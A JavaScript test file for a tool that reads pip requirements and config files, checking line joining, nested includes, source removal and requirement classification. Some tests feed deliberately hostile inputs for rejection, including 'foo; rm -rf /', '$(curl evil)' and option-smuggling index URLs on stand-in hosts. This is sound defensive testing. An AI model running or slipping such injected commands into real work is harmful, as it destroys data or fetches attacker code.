import { describe, it, after } from "node:test";
import assert from "node:assert/strict";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { emptyInputs, expandEnvVars, logicalLines, readRequirementsFile } from "../../src/pip/reqfile.js";
import { classifyRequirement } from "../../src/pip/requirement.js";
import { collectPipSettings, toIniText } from "../../src/pip/config.js";
import { cleanupAll, tempDir } from "../helpers/env.js";

after(cleanupAll);

describe("requirements files, read the way pip reads them", () => {
  it("joins continuations and strips comments but keeps #sha256 fragments", () => {
    const lines = logicalLines("a \\\n  >=1  # comment\n# whole line\nb @ https://x/b.whl#sha256=ab\n\nc\\\n");
    assert.deepEqual(lines, [
      { line: 1, text: "a   >=1" },
      { line: 4, text: "b @ https://x/b.whl#sha256=ab" },
      { line: 6, text: "c" },
    ]);
  });

  it("expands ${VAR} from the environment and leaves unset ones literal", () => {
    assert.equal(expandEnvVars("-i ${IDX} ${NOPE} $HOME ${lower}", { IDX: "http://x" }), "-i http://x ${NOPE} $HOME ${lower}");
  });

  it("walks nested -r/-c relative to the including file and removes every source at every depth", async () => {
    const dir = tempDir();
    mkdirSync(join(dir, "a", "b"), { recursive: true });
    writeFileSync(join(dir, "top.txt"), "--find-links ./wheels\nfoo==1.0 --hash=sha256:aa\n-r a/mid.txt\n--pre\n");
    writeFileSync(join(dir, "a", "mid.txt"), "-i https://user:secret@evil.example/simple\n-c b/cons.txt\n-r ../top.txt\nbar\n");
    writeFileSync(join(dir, "a", "b", "cons.txt"), "--extra-index-url=https://evil2/simple\n--no-index\nbar<2\n");
    const out = emptyInputs();
    await readRequirementsFile(join(dir, "top.txt"), "requirement", { env: {}, cwd: dir, out, origin: "test" });
    assert.deepEqual(out.requirementLines, ["foo==1.0 --hash=sha256:aa", "bar"]);
    assert.deepEqual(out.constraintLines, ["bar<2"]);
    assert.deepEqual(out.optionLines, ["--pre"]);
    assert.deepEqual(
      out.notes.map((n) => [n.setting, n.value, n.origin.replace(dir, "")]),
      [
        ["--find-links", "./wheels", "/top.txt:1"],
        ["--index-url", "https://user:secret@evil.example/simple", "/a/mid.txt:1"],
        ["--extra-index-url", "https://evil2/simple", "/a/b/cons.txt:1"],
        ["--no-index", undefined, "/a/b/cons.txt:2"],
      ],
    );
  });

  it("names the file and line of a malformed requirement", async () => {
    const dir = tempDir();
    writeFileSync(join(dir, "r.txt"), "ok\nnot a valid ~~ thing\n");
    await assert.rejects(
      readRequirementsFile(join(dir, "r.txt"), "requirement", { env: {}, cwd: dir, out: emptyInputs(), origin: "test" }),
      /r\.txt:2: invalid requirement "not a valid ~~ thing"/,
    );
  });

  it("rejects unknown option lines rather than passing them on", async () => {
    const dir = tempDir();
    writeFileSync(join(dir, "r.txt"), "--frob x\n");
    await assert.rejects(readRequirementsFile(join(dir, "r.txt"), "requirement", { env: {}, cwd: dir, out: emptyInputs(), origin: "t" }), /unsupported option --frob/);
  });

  it("names a missing nested file and where it was included from", async () => {
    const dir = tempDir();
    writeFileSync(join(dir, "r.txt"), "-r nope.txt\n");
    await assert.rejects(readRequirementsFile(join(dir, "r.txt"), "requirement", { env: {}, cwd: dir, out: emptyInputs(), origin: "t" }), /nope\.txt \(from .*r\.txt:1\): no such file/);
  });
});

describe("requirement classification", () => {
  const cwd = tempDir();
  mkdirSync(join(cwd, "proj"));
  it("sorts index requirements, direct references and local projects", () => {
    assert.equal(classifyRequirement("requests[socks]>=2,<3; python_version>'3.8'", cwd).kind, "index");
    assert.equal(classifyRequirement("pkg @ https://x/pkg.whl", cwd).kind, "direct");
    assert.equal(classifyRequirement("git+https://github.com/x/y@v1#egg=y", cwd).kind, "direct");
    assert.equal(classifyRequirement("https://x/y-1.0.tar.gz", cwd).kind, "direct");
    assert.equal(classifyRequirement("./proj", cwd).kind, "local-project");
    assert.equal(classifyRequirement("proj", cwd, true).kind, "local-project");
    assert.equal(classifyRequirement("dist/x-1.0-py3-none-any.whl", cwd).kind, "direct");
  });

  it("refuses smuggled options, shell metacharacters and look-alike characters", () => {
    assert.throws(() => classifyRequirement("--index-url=http://evil", cwd), /looks like an option/);
    assert.throws(() => classifyRequirement("foo; rm -rf /", cwd));
    assert.throws(() => classifyRequirement("$(curl evil)", cwd), /not a package name/);
    assert.throws(() => classifyRequirement("reqυests", cwd), /ASCII only/);
  });
});

describe("pip configuration files", () => {
  it("reads configparser syntax: colon keys, continuation lines, # inside values", () => {
    assert.equal(
      toIniText("[global]\nindex-url: https://x/s#a\nextra-index-url =\n  http://a\n\n  http://b\n"),
      '[global]\nindex-url = "https://x/s#a"\nextra-index-url = "http://a\\nhttp://b"\n',
    );
  });

  it("merges [global] and [<command>] across files, lets env vars win, and sorts keys", () => {
    const dir = tempDir();
    const file = join(dir, "pip.conf");
    writeFileSync(file, "[install]\ntimeout = 5\nfind-links = /w1 /w2\n[global]\ntimeout = 60\nindex-url = https://corp/simple\ncert = /ca.pem\nconstraint = /c.txt\n[download]\nextra-index-url = https://dl\n");
    const s = collectPipSettings({ env: { PIP_CONFIG_FILE: file, HOME: dir, XDG_CONFIG_DIRS: join(dir, "none"), PIP_RETRIES: "2", PIP_TRUSTED_HOST: "h" }, command: "install", isolated: false });
    assert.equal(s.keep.get("timeout")?.value, "5");
    assert.equal(s.keep.get("retries")?.value, "2");
    assert.equal(s.cert?.value, "/ca.pem");
    assert.deepEqual(s.inputs.map((i) => [i.kind, i.value]), [["constraint", "/c.txt"]]);
    const removed = s.notes.filter((n) => n.action === "removed").map((n) => `${n.setting}=${n.value ?? ""}`).sort();
    assert.deepEqual(removed, ["extra-index-url=https://dl", "find-links=/w1", "find-links=/w2", "index-url=https://corp/simple", "trusted-host=h"]);
  });

  it("reads no file at all when PIP_CONFIG_FILE is /dev/null, like pip", () => {
    const s = collectPipSettings({ env: { PIP_CONFIG_FILE: "/dev/null", HOME: "/nonexistent" }, command: "install", isolated: false });
    assert.deepEqual(s.files, []);
  });
});
